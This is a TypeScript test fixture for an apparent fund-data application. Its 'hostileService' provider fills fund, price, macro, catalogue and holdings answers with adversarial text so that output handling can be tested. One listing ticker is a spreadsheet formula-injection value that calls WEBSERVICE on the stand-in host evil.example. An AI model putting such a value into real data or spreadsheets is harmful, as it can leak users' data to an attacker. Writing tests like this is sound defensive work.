import type { Answer, Provider, Query } from "../../../../src/data/query.ts";
import type { Provenance } from "../../../../src/data/record.ts";
import { addDays, addMonths } from "../../../../src/finance/dates/dates.ts";

const LAST = "2026-11-20";
const days = Array.from({ length: 80 }, (_, i) => addDays("2026-09-02", i)).filter(
  (date) => date <= LAST && ![0, 6].includes(new Date(date).getUTCDay()),
);
const months = Array.from({ length: 30 }, (_, i) => addMonths("2024-05-01", i));

/** Funds the service lists; their names, issuers and so on are the texts. */
export const FUNDS = ["HOSTA", "HOSTB"] as const;

/**
 * A service of which all figures are well and every text is one of those given, in turn.
 *
 * @param held - names of what each fund holds; all the texts, if not given
 */
export function hostileService(texts: readonly string[], held: readonly string[] = texts): Provider {
  let turn = 0;
  const next = () => texts[turn++ % texts.length]!;
  return (queries) => Promise.resolve(queries.map((query) => answerTo(query, next, held)));
}

function answerTo(query: Query, next: () => string, held: readonly string[]): Answer {
  const provenance: Provenance = {
    source: next(),
    sourceUrl: `https://source.example/?${encodeURIComponent(Buffer.from(next()).toString())}`,
    asOf: LAST,
    fetchedAt: `${LAST}T21:00:00.000Z`,
    quality: "live",
    warnings: [{ warning: "standIn", details: { source: next() } }],
  };
  const found = (record: object): Answer => ({
    state: "found",
    record: { ...provenance, ...query, ...record } as unknown as Extract<
      Answer,
      { state: "found" }
    >["record"],
  });
  switch (query.kind) {
    case "fund":
      return found(factsOf(next));
    case "valuations":
      return found({ points: [15, 16].map((value, i) => pointOf(value, `2026-0${i + 8}-30`, next())) });
    case "prices":
      return found({ series: seriesOf(days, "daily") });
    case "returns":
      return found({ series: seriesOf(query.interval === "daily" ? days : months, query.interval) });
    case "macro":
      return found({
        title: next(),
        unit: next(),
        frequency: next(),
        dates: months,
        values: months.map((_, i) => 4 + i / 100),
      });
    case "catalogue":
      return found({ listings: listingsOf(next) });
    case "holdings":
      return found({ asOf: query.asOf ?? LAST, holdings: holdingsOf(held) });
  }
}

const figure = (value: number, source: string) => ({ value, asOf: LAST, source });

const factsOf = (next: () => string) => ({
  name: next(),
  issuer: next(),
  index: next(),
  style: next(),
  isin: next(),
  inceptionDate: "2000-05-22",
  firstTradeDate: "2000-05",
  expenseRatio: figure(0.002, next()),
  netAssets: figure(2e9, next()),
  price: figure(50, next()),
  yield: figure(0.0125, next()),
  successor: null,
});

const pointOf = (value: number, date: string, source: string) => ({
  metric: "pe",
  date,
  value,
  basis: "trailing",
  method: "exNegative",
  source,
});

const seriesOf = (dates: readonly string[], interval: "daily" | "monthly") => ({
  dates,
  values: dates.map((_, i) => ((1 + 0.001 * (i % 7)) * (1 + i / 500)) / 1),
  interval,
});

/** Also names that are no tickers at all: what a screener puts into formulas comes from here. */
const listingsOf = (next: () => string) =>
  [...FUNDS, next(), `A"&WEBSERVICE("https://evil.example")&"`].map((ticker) => ({
    ticker,
    name: next(),
    issuer: next(),
    style: next(),
    successor: null,
  }));

const holdingsOf = (texts: readonly string[]) =>
  texts.map((name, i) => ({
    ticker: texts[(i + 1) % texts.length]!,
    name,
    sector: texts[(i + 2) % texts.length]!,
    weight: 1 / texts.length - i * 1e-12,
  }));
